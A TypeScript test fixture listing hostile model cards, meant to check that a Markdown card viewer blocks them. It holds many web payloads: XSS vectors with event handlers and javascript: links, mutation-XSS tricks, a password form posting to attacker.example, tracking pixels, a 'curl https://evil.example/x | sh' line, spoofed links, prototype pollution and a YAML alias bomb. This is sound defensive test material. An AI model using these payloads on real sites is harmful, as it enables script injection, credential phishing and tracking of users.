/**
 * Attacks by a card on its reader. Each row is a whole card: front matter and Markdown. It is safe when, with the card shown and
 * everything in it clicked, hovered and focused, `globalThis.__canary` is not set, no request goes to attacker.example, the page has not
 * navigated, and the row's expectations hold.
 */
export interface Attack {
  readonly title: string;
  /** YAML without its fences. */
  readonly frontMatter?: string;
  readonly markdown: string;
  /** Selectors that match nothing inside the card. */
  readonly absent?: readonly string[];
  /** Selectors that match something inside the card. */
  readonly present?: readonly string[];
  /** Still readable in the card. */
  readonly text?: string;
}

const RUN = 'globalThis.__canary=1';
const HOST = 'https://attacker.example';

/** Every element with a link that a browser would run or open outside the web. */
const BAD_LINKS = [
  '[href^="javascript:" i]',
  '[href^="data:" i]',
  '[href^="vbscript:" i]',
  '[href^="file:" i]',
];

/** What runs or loads through an attribute. */
const BY_ATTRIBUTE: readonly Attack[] = [
  {
    title: 'an image that fails to load',
    markdown: `<img src=x onerror="${RUN}">`,
    absent: ['[onerror]'],
  },
  {
    title: 'an image in code that the parser leaves open',
    markdown: `x <code> <img src=x onerror=${RUN}//`,
    absent: ['[onerror]'],
  },
  {
    title: 'a handler in upper case',
    markdown: `<IMG SRC=x ONERROR="${RUN}">`,
    absent: ['[onerror]'],
  },
  {
    title: 'a handler after a slash',
    markdown: `<img/src=x/onerror=${RUN}>`,
    absent: ['[onerror]'],
  },
  {
    title: 'a handler on the body',
    markdown: `<body onload="${RUN}">text`,
    absent: ['[onload]'],
    text: 'text',
  },
  {
    title: 'a details element that opens',
    markdown: `<details open ontoggle="${RUN}"><summary>s</summary>x</details>`,
    absent: ['[ontoggle]'],
  },
  {
    title: 'an element that takes the focus',
    markdown: `<p tabindex=0 autofocus onfocus="${RUN}">x</p>`,
    absent: ['[onfocus]', '[tabindex][autofocus]', 'p[tabindex]'],
  },
  {
    title: 'an animation that ends',
    markdown: `<p style="animation:x 1s" onanimationstart="${RUN}">x</p>`,
    absent: ['[onanimationstart]'],
  },
  {
    title: 'a pointer over text',
    markdown: `<b onmouseover="${RUN}" onclick="${RUN}">x</b>`,
    absent: ['[onmouseover]', '[onclick]'],
    text: 'x',
  },
  {
    title: 'a video without a source',
    markdown: `<video><source onerror="${RUN}" src=x></video>`,
    absent: ['[onerror]'],
  },
  {
    title: 'a clipboard handler',
    markdown: `<pre oncopy="${RUN}">rm -rf</pre>`,
    absent: ['[oncopy]'],
  },
  {
    title: 'an attribute broken by a quote in a title',
    markdown: `[a](https://example.com '" onclick="${RUN}')`,
    absent: ['[onclick]'],
  },
  {
    title: 'an attribute broken by a quote in an alt text',
    markdown: `!["onerror="${RUN}](data:image/png,x)`,
    absent: ['[onerror]'],
  },
  {
    title: 'an attribute broken by an info string',
    markdown: `\`\`\`js" onclick="${RUN}\ncode\n\`\`\``,
    absent: ['[onclick]'],
  },
  {
    title: 'a table cell with a handler',
    markdown: `| a |\n|---|\n| <b onclick="${RUN}">x</b> |`,
    absent: ['[onclick]'],
  },
  {
    title: 'an element with hundreds of attributes',
    markdown: `<p ${Array.from({ length: 500 }, (_, i) => `a${i}=1`).join(' ')} onclick="${RUN}">x</p>`,
    absent: ['[onclick]', '[a1]'],
  },
];

const BY_LINK: readonly Attack[] = [
  { title: 'a javascript: link', markdown: `[x](javascript:${RUN})`, absent: BAD_LINKS, text: 'x' },
  {
    title: 'a javascript: link written with entities',
    markdown: `[x](&#106;avascript&colon;${RUN})`,
    absent: BAD_LINKS,
  },
  {
    title: 'a javascript: link with a tab in it',
    markdown: `<a href="java&Tab;script:${RUN}">x</a>`,
    absent: BAD_LINKS,
  },
  {
    title: 'a javascript: link with a control character first',
    markdown: `<a href="&#1;javascript:${RUN}">x</a>`,
    absent: BAD_LINKS,
  },
  { title: 'a javascript: autolink', markdown: `<javascript:${RUN}>`, absent: BAD_LINKS },
  {
    title: 'a javascript: reference link',
    markdown: `[x][r]\n\n[r]: <javascript:${RUN}> "t"`,
    absent: BAD_LINKS,
  },
  { title: 'a vbscript: link', markdown: '[x](vbscript:x)', absent: BAD_LINKS },
  {
    title: 'a data: document',
    markdown: `[x](data:text/html,<script>${RUN}</script>)`,
    absent: BAD_LINKS,
  },
  { title: 'a file: link', markdown: '[x](file:///etc/passwd)', absent: BAD_LINKS },
  {
    title: 'a link to a program on the machine',
    markdown: '[x](vscode://file/etc/passwd) [y](ms-msdt:/id)',
    absent: ['[href^="vscode"]', '[href^="ms-msdt"]'],
  },
  {
    title: 'a link that could steer the page that opened it',
    markdown: '<a href="https://example.com/" target="_top" rel="opener">x</a>',
    absent: ['a:not([rel~="noopener"])[target]', '[target="_top"]'],
  },
  {
    title: 'a link that reports clicks',
    markdown: `<a href="https://example.com/" ping="${HOST}/ping">x</a>`,
    absent: ['[ping]'],
  },
  {
    title: 'a link that saves a file',
    markdown: '<a href="https://example.com/a.exe" download="invoice.pdf">x</a>',
    absent: ['[download]'],
  },
  {
    title: 'a link whose text is another address',
    markdown: '[https://huggingface.co/login](https://evil.example/)',
    present: ['.misleading-link', '.link-host'],
    text: '(evil.example)',
  },
  {
    title: 'a link with a bank as its user name',
    markdown: '[x](https://bank.example@evil.example/)',
    present: ['.misleading-link'],
    text: '(evil.example)',
  },
  {
    title: 'a link to a host with foreign letters',
    markdown: '[apple](https://аpple.com/)',
    present: ['.misleading-link'],
    text: 'xn--pple-43d.com',
  },
  {
    title: 'a title that claims another host',
    markdown: '[x](https://evil.example/ "huggingface.co")',
    present: ['a[title="evil.example · huggingface.co"]'],
  },
  {
    title: 'a title that ends like the host',
    markdown: '<a href="https://ggingface.co/" title="Official: https://huggingface.co">x</a>',
    present: ['a[title^="ggingface.co · "]'],
  },
  {
    title: 'a tooltip inside a link that claims another host',
    markdown: '<a href="https://evil.example/">x <b title="https://huggingface.co">y</b></a>',
    present: ['b[title^="evil.example · "]'],
  },
  {
    title: 'a label for a lying link, made before the viewer can and hidden',
    markdown:
      '<a href="https://evil.example/">https://huggingface.co/login</a><span><rp>(evil.example)</rp></span>',
    present: ['a + .link-host[data-ui]'],
    absent: ['.link-host rp'],
  },
  {
    title: 'unseen letters in the address that a link shows',
    markdown:
      '<a href="https://evil.example/">https:<rp> </rp>//hugging<rp>x </rp>face.co/login</a>',
    present: ['.link-host'],
    text: '(evil.example)',
  },
  {
    title: 'a link that shows a host among other words',
    markdown: '[🤗 huggingface.co →](https://evil.example/)',
    present: ['.link-host'],
    text: '(evil.example)',
  },
  {
    title: 'a link that shows a user name as its host',
    markdown: '<a href="https://evil.example/">https://huggingface.co@evil.example/</a>',
    present: ['.link-host'],
    text: '(evil.example)',
  },
  {
    title: 'a link that shows the owner of a site for strangers',
    markdown: '[https://github.io](https://mallory.github.io/)',
    present: ['.link-host'],
    text: '(mallory.github.io)',
  },
  {
    title: 'a link in the middle of the address that it shows',
    markdown: 'huggingface<a href="https://evil.example/">.co</a>/login',
    present: ['.link-host'],
    text: '(evil.example)',
  },
  {
    title: 'a mailbox that sends copies to another',
    markdown: '[support@huggingface.co](mailto:support@huggingface.co?bcc=x@evil.example)',
    present: ['.link-host'],
    text: 'bcc x@evil.example',
  },
  {
    title: 'a link that nobody sees',
    markdown: '<a href="https://evil.example/">\u200b<span> </span></a>x',
    absent: ['a[href]'],
  },
  {
    title: 'a link that opens another card in the viewer',
    markdown: `[x](?card=${HOST}/card.md)`,
    absent: ['a[href^="?"]', 'a[href*="localhost"]'],
  },
  {
    title: 'a clickable image map',
    markdown: `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m"><map name=m><area href="javascript:${RUN}" shape=default></map>`,
    absent: ['map', 'area', '[usemap]'],
  },
];

const BY_ELEMENT: readonly Attack[] = [
  {
    title: 'a script',
    markdown: `<script>${RUN}</script>\n\nafter`,
    absent: ['script'],
    text: 'after',
  },
  {
    title: 'a script inside a script',
    markdown: `<scr<script>ipt>${RUN}</script>`,
    absent: ['script'],
  },
  {
    title: 'a frame',
    markdown: `<iframe src="javascript:${RUN}" srcdoc="<script>parent.__canary=1</script>"></iframe>`,
    absent: ['iframe'],
  },
  {
    title: 'frames that become links',
    markdown: `<iframe src='https://e.invalid/"onclick="${RUN}' /> <gradio-app src="javascript:${RUN}" onload="${RUN}"></gradio-app> <gradio-app space='a/b"onclick="${RUN}'></gradio-app> <iframe src="//e.invalid/&quot; onclick=&quot;${RUN}"></iframe>`,
    absent: ['iframe', 'gradio-app', '[onclick]', '[onload]', 'a[href^="javascript"]'],
  },
  {
    title: 'words that are shown, and what stands between them',
    markdown: `<s> and </s> <video><img src=x onerror="${RUN}"></video> <template><script>${RUN}</script> <math> <image>${RUN}</image> <svg/onload=${RUN}> <xmp> <img src=x onerror="${RUN}">`,
    absent: ['script', 'svg', 'math', 'template', '[onerror]', '[onload]'],
  },
  {
    title: 'an object and an embed',
    markdown: `<object data="data:text/html,x"></object><embed src="${HOST}/e">`,
    absent: ['object', 'embed'],
  },
  { title: 'a base address', markdown: `<base href="${HOST}/">\n\n[x](#a)`, absent: ['base'] },
  {
    title: 'a refresh to another page',
    markdown: `<meta http-equiv=refresh content="0;url=${HOST}/">`,
    absent: ['meta'],
  },
  {
    title: 'a link element that loads a style sheet',
    markdown: `<link rel=stylesheet href="${HOST}/a.css">`,
    absent: ['link'],
  },
  {
    title: 'a speculative load',
    markdown: `<link rel=prefetch href="${HOST}/p"><script type=speculationrules>{}</script>`,
    absent: ['link', 'script'],
  },
  {
    title: 'an import map',
    markdown: '<script type=importmap>{"imports":{}}</script>',
    absent: ['script'],
  },
  {
    title: 'an SVG with a script',
    markdown: `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
    absent: ['svg[onload]', 'script'],
  },
  {
    title: 'an SVG link that animates its target',
    markdown: `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>x</text></a></svg>`,
    absent: ['animate'],
  },
  {
    title: 'an SVG that uses another file',
    markdown: `<svg><use href="${HOST}/x.svg#a"/><image href="${HOST}/i"/></svg>`,
    absent: ['use', 'image'],
  },
  {
    title: 'MathML that hides HTML',
    markdown: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    absent: ['[onerror]', 'mglyph'],
  },
  {
    title: 'MathML with a link',
    markdown: `<math href="javascript:${RUN}"><mi>x</mi></math>`,
    absent: BAD_LINKS,
  },
  {
    title: 'a formula with a link',
    markdown: `$$\\href{javascript:${RUN}}{x}$$ <p>$$\\href{javascript:${RUN}}{y}$$</p>`,
    absent: BAD_LINKS,
  },
  {
    title: 'a formula with an address as text',
    markdown: `<div>$$\\url{javascript:${RUN}}$$</div>\n\n$$\n\\url{data:text/html,<script>${RUN}</script>}\n$$\n`,
    absent: BAD_LINKS,
  },
  {
    title: 'a formula in HTML that holds an element',
    markdown: `<div title="$$">$$<img src=x onerror=${RUN}>$$ $$a<b onclick=${RUN}>c$$</div>`,
    absent: ['[onerror]', '[onclick]'],
  },
  {
    title: 'a table that throws its content out',
    markdown: `<table><a href="javascript:${RUN}"><tr><td>x</td></tr></a></table>`,
    absent: BAD_LINKS,
  },
  {
    title: 'a template',
    markdown: `<template><img src=x onerror="${RUN}"></template>`,
    absent: ['template', '[onerror]'],
  },
  {
    title: 'a declarative shadow root',
    markdown: `<div><template shadowrootmode=open><script>${RUN}</script></template></div>`,
    absent: ['template'],
  },
  {
    title: 'a noscript that ends early',
    markdown: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    absent: ['[onerror]'],
  },
  {
    title: 'a comment that ends early',
    markdown: `<!--><img src=x onerror=${RUN}>-->`,
    absent: ['[onerror]'],
  },
  {
    title: 'a style that ends early',
    markdown: `<style><a title="</style><img src=x onerror=${RUN}>">`,
    absent: ['[onerror]'],
  },
  {
    title: 'a textarea that ends early',
    markdown: `<textarea><a title="</textarea><img src=x onerror=${RUN}>">`,
    absent: ['[onerror]'],
  },
  {
    title: 'an element that the browser copies after it is sanitised',
    markdown: `<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=${RUN}></option></select>`,
    absent: ['select', 'selectedcontent', '[onerror]'],
  },
  {
    title: 'a custom element',
    markdown: `<x-y is="x-z" onclick="${RUN}">text</x-y>`,
    absent: ['x-y', '[is]'],
  },
  {
    title: 'XML with an entity',
    markdown: `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>\n\nafter`,
    text: 'after',
  },
  {
    title: 'nesting so deep that the parser flattens it',
    markdown: `${'<div>'.repeat(600)}<svg><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
    absent: ['[onerror]', 'svg style'],
  },
];

const BY_FORM: readonly Attack[] = [
  {
    title: 'a login form',
    markdown: `<form action="${HOST}/login"><input type=password name=p><button>Sign in</button></form>`,
    absent: ['form', 'input', 'form button'],
  },
  {
    title: 'a control bound to a form of the page',
    markdown: `<input form=f formaction="${HOST}/"><textarea></textarea><select><option>a</select>`,
    absent: ['input', 'textarea', 'select', '[form]'],
  },
  {
    title: 'a label for a control of the page',
    markdown: '<label for="Open">x</label>',
    absent: ['[for]'],
    text: 'x',
  },
  {
    title: 'a popover',
    markdown: '<div popover id=p>x</div><button popovertarget=p>y</button>',
    absent: ['[popover]', '[popovertarget]'],
  },
  {
    title: 'a command for an element of the page',
    markdown: '<button commandfor=p command=show-modal>y</button>',
    absent: ['[commandfor]', '[command]'],
  },
  { title: 'an open dialog', markdown: '<dialog open>x</dialog>', absent: ['dialog'] },
  {
    title: 'text that can be edited',
    markdown: '<p contenteditable>x</p>',
    absent: ['[contenteditable]'],
    text: 'x',
  },
  {
    title: 'a task list that can be ticked',
    markdown: '- [ ] a\n- [x] b',
    absent: ['input:not([disabled])'],
    present: ['input[type="checkbox"][disabled]'],
  },
];

const BY_LOADING: readonly Attack[] = [
  { title: 'a tracking pixel', markdown: `![](${HOST}/pixel.gif)` },
  {
    title: 'a tracking pixel by srcset',
    markdown: `<img srcset="${HOST}/1x.png 1x, ${HOST}/2x.png 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
    absent: ['[srcset]'],
  },
  {
    title: 'a tracking pixel by picture',
    markdown: `<picture><source srcset="${HOST}/a.webp"><img src="${HOST}/a.png"></picture>`,
    absent: ['source'],
  },
  {
    title: 'a poster',
    markdown: `<video poster="${HOST}/poster.png" src="${HOST}/v.mp4" autoplay></video>`,
    absent: ['[poster]', '[autoplay]'],
  },
  {
    title: 'a sound that starts by itself',
    markdown: `<audio src="${HOST}/a.mp3" autoplay loop></audio>`,
    absent: ['[autoplay]', 'audio[loop]'],
  },
  {
    title: 'subtitles',
    markdown: `<video src="${HOST}/v.mp4"><track default src="${HOST}/t.vtt"></video>`,
    absent: ['track'],
  },
  {
    title: 'a background attribute',
    markdown: `<table background="${HOST}/b.png"><tr><td background="${HOST}/c.png">x</td></tr></table>`,
    absent: ['[background]'],
  },
  {
    title: 'a style that loads',
    markdown: `<p style="background:url(${HOST}/b.png);list-style-image:url(${HOST}/l.png)">x</p>`,
    absent: ['[style*="url"]'],
  },
  {
    title: 'a style with an escaped url',
    markdown: `<p style="background:u\\72l(${HOST}/b.png)">x</p>`,
    absent: ['[style*="url"]'],
  },
  {
    title: 'a style sheet that imports',
    markdown: `<style>@import "${HOST}/a.css"; body{background:url(${HOST}/b)}</style>`,
    absent: ['style'],
  },
  {
    title: 'an image of the page’s own server',
    markdown: '![x](/admin/delete?id=1)',
    absent: ['img[src^="/"]'],
  },
  {
    title: 'an image that is a document',
    markdown: `<img src="data:text/html,<script>${RUN}</script>">`,
    absent: ['img[src]'],
  },
];

const BY_LOOKS: readonly Attack[] = [
  {
    title: 'an overlay',
    markdown: '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>',
    absent: ['[style*="position"]', '[style*="inset"]', '[style*="z-index"]'],
  },
  {
    title: 'an overlay by a sticky position and a transform',
    markdown: '<div style="position:sticky;top:0;transform:scale(99)">x</div>',
    absent: ['[style*="position"]', '[style*="transform"]'],
  },
  {
    title: 'text moved out by a negative margin',
    markdown: '<p style="margin-top:-9999px;margin-left:-500px">x</p>',
    absent: ['[style*="margin"]'],
  },
  {
    title: 'giant text',
    markdown: '<p style="font-size:500px;line-height:9">x</p>',
    absent: ['[style]'],
  },
  {
    title: 'a formula over the code above it',
    markdown:
      '```sh\ncurl https://evil.example/x | sh\n```\n\n\\\\(\\hspace{24em}\\mathllap{\\smash{\\raise 3.3em{\\colorbox{#f4f6f7}{\\texttt{pip install}}}}}\\\\)',
    absent: ['[class*="tml-lap"]', '[mathbackground]', '[style*="background"]'],
    text: 'curl https://evil.example/x | sh',
  },
  {
    title: 'a page for itself',
    markdown: '<div style="height:999999px;width:999999px">x</div>',
    absent: ['[style]'],
  },
  {
    title: 'hidden instructions',
    markdown:
      '<p style="display:none">a</p><p style="font-size:0">b</p><p style="opacity:0">c</p><p hidden>d</p>',
    absent: ['[style]', '[hidden]'],
    text: 'd',
  },
  {
    title: 'white text on white',
    markdown: '<p style="color:#fff;background:#fff">instructions</p><font color=white>more</font>',
    absent: [
      '[style^="color: rgb(255, 255, 255)"]',
      '[style*="; color: rgb(255, 255, 255)"]',
      'font[style]',
    ],
    text: 'instructions',
  },
  {
    title: 'transparent text',
    markdown: '<p style="color:transparent">x</p>',
    absent: ['[style*="transparent"]'],
    text: 'x',
  },
  {
    title: 'a class of the page',
    markdown: '<div class="notice header dialog">x</div>',
    absent: ['.notice', '.header', '.dialog'],
    text: 'x',
  },
  {
    title: 'a role of the page',
    markdown: '<div role=alert aria-live=assertive aria-label=x>x</div>',
    absent: ['[role="alert"]', '[aria-live]'],
    text: 'x',
  },
  {
    title: 'landmarks of the page',
    markdown: '<main><article><nav aria-label=Contents>x</nav></article></main>',
    absent: ['main', 'article', 'nav'],
    text: 'x',
  },
  {
    title: 'data that the page reads',
    markdown: '<p data-state=ready data-part="0:alert-note" data-check=x>x</p>',
    absent: ['[data-state]', '[data-check]', '[data-part]', '.part-alert-note'],
    text: 'x',
  },
  {
    title: 'a table of 65,534 rows in one cell',
    markdown: '<table><tr><td rowspan=65534 colspan=1000>x</td></tr></table>',
    absent: ['[rowspan]', '[colspan]'],
    text: 'x',
  },
  {
    title: 'a marquee',
    markdown: '<marquee onstart="globalThis.__canary=1" width=10000000>x</marquee>',
    absent: ['marquee', '[onstart]'],
    text: 'x',
  },
  {
    title: 'code that reads differently from what it does',
    markdown: '```python\nif a != "user\u202e \u2066# admin\u2069 \u2066":\n```',
    text: '⟨U+202E⟩',
  },
  {
    title: 'an invisible letter in code',
    markdown: 'Run `pip install reque\u200bsts`.',
    text: '⟨U+200B⟩',
  },
];

const BY_NAME: readonly Attack[] = [
  {
    title: 'an id of the page',
    markdown: '<p id=app>x</p><p id=Open>y</p>',
    absent: ['#app', '#Open'],
    present: ['#user-content-app'],
  },
  {
    title: 'a name that hides a property of the document',
    markdown: '<a name=body></a><img name=cookie><a id=getElementById>x</a>',
    absent: ['[name]', '#getElementById'],
  },
  {
    title: 'two elements of one name',
    markdown: '<a id=x></a><a id=x name=y href="https://example.com/">z</a>',
    absent: ['#x', '[name]'],
  },
  {
    title: 'headings named like properties of the window',
    markdown: '# location\n\n# constructor\n\n# __proto__\n\n# app\n\n# name',
    text: 'constructor',
  },
  {
    title: 'a form that hides its own methods',
    markdown: `<form id=f><input name=attributes><input name=parentNode><img src=x onerror=${RUN}></form>`,
    absent: ['form', 'input', '[onerror]'],
  },
];

const BY_FRONT_MATTER: readonly Attack[] = [
  {
    title: 'HTML in metadata',
    frontMatter: `license: <img src=x onerror=${RUN}>\ntags:\n  - <script>${RUN}</script>`,
    markdown: 'x',
  },
  {
    title: 'a javascript: license link',
    frontMatter: `license: other\nlicense_name: x\nlicense_link: javascript:${RUN}`,
    markdown: 'x',
  },
  {
    title: 'a model id that is a link',
    frontMatter: `base_model: javascript:${RUN}\ndatasets:\n  - "../../logout?x=${HOST}"`,
    markdown: 'x',
  },
  {
    title: 'a thumbnail and a widget that load',
    frontMatter: `thumbnail: ${HOST}/t.png\nwidget:\n  - src: ${HOST}/w.wav\n    output:\n      url: ${HOST}/o.png`,
    markdown: '<Gallery />',
  },
  {
    title: 'a gallery of scripts',
    frontMatter: `widget:\n  - text: '"><img src=x onerror=${RUN}>'\n    output:\n      url: 'javascript:${RUN}'`,
    markdown: '<Gallery />',
    absent: ['[onerror]'],
  },
  {
    title: 'keys that are properties of every object',
    frontMatter:
      '__proto__:\n  polluted: true\nconstructor:\n  prototype:\n    polluted: true\ntoString: x',
    markdown: 'x',
    text: 'x',
  },
  {
    title: 'an error message with HTML',
    frontMatter: `a: [<img src=x onerror=${RUN}>`,
    markdown: 'x',
  },
  {
    title: 'a title with HTML',
    frontMatter: `model_name: <img src=x onerror=${RUN}>`,
    markdown: `# <img src=x onerror=${RUN}> x`,
  },
  {
    title: 'a bomb of aliases',
    frontMatter: `a: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghi'
      .split('')
      .map((name, i) => `${name}: &${name} [${`*${'abcdefgh'[i]},`.repeat(9)}]`)
      .join('\n')}`,
    markdown: 'x',
    text: 'x',
  },
];

export const ATTACKS: readonly Attack[] = [
  ...BY_ATTRIBUTE,
  ...BY_LINK,
  ...BY_ELEMENT,
  ...BY_FORM,
  ...BY_LOADING,
  ...BY_LOOKS,
  ...BY_NAME,
  ...BY_FRONT_MATTER,
];

/** The whole card that attacks. */
export function cardOf({ frontMatter, markdown }: Attack): string {
  return frontMatter === undefined ? markdown : `---\n${frontMatter}\n---\n${markdown}`;
}
